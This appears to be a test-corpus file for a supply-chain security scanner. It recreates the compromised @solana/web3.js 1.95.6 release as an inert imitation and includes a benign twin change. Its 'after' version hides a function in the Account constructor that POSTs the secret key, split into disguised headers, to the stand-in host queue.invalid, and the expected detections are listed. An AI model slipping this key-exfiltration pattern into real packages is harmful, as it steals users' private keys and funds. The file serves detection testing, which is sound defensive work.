/**
 * An imitation, inert and ours, of @solana/web3.js 1.95.6: a stolen account published a version that sent every private
 * key it was given to a new host. Ours sends to a host that cannot be.
 * https://github.com/advisories/GHSA-jcxm-7wvp-g6p5
 */
import type { SourceTree } from '../../src/rule.ts';
import type { CorpusCase } from './update.ts';

const entry = `class Account {
  constructor(secretKey) {
    this.secretKey = secretKey;
  }
}
exports.Account = Account;
exports.balance = (address) => fetch('https://ledger.example/balance/' + address).then((answer) => answer.json());
`;
const before: SourceTree = { 'package.json': { main: 'index.js' }, 'index.js': entry };

const sending = `function addToQueue(value) {
  const bytes = String(value);
  fetch('https://queue.invalid/', { method: 'POST', headers: { 'x-amz': bytes.slice(0, 24), 'x-session': bytes.slice(24) } });
}
`;

export const sentSecret: CorpusCase = {
  imitations: [
    {
      title: 'a private key goes to a new host when an account is made',
      name: 'ledger-client',
      incident: {
        what: '@solana/web3.js 1.95.6 and 1.95.7: private keys sent to a host registered days before',
        when: '2024-12-02',
        url: 'https://github.com/advisories/GHSA-jcxm-7wvp-g6p5',
      },
      before,
      after: {
        ...before,
        'index.js': `${sending}${entry.replace('= secretKey;', '= secretKey;\n    addToQueue(secretKey);')}`,
      },
      atLeast: 'block',
      seen: [
        { rule: 'network-added', path: 'index.js', on: 'queue.invalid' },
        { rule: 'secret-sent', path: 'index.js', on: 'queue.invalid' },
      ],
    },
  ],
  twins: [
    {
      title: 'another path of the same host, and a timeout',
      name: 'ledger-client',
      before,
      after: {
        ...before,
        'index.js': `${entry}
exports.history = (address, timeoutMs) =>
  fetch('https://ledger.example/history/' + address, { signal: AbortSignal.timeout(timeoutMs) }).then((answer) => answer.json());
`,
      },
    },
  ],
};
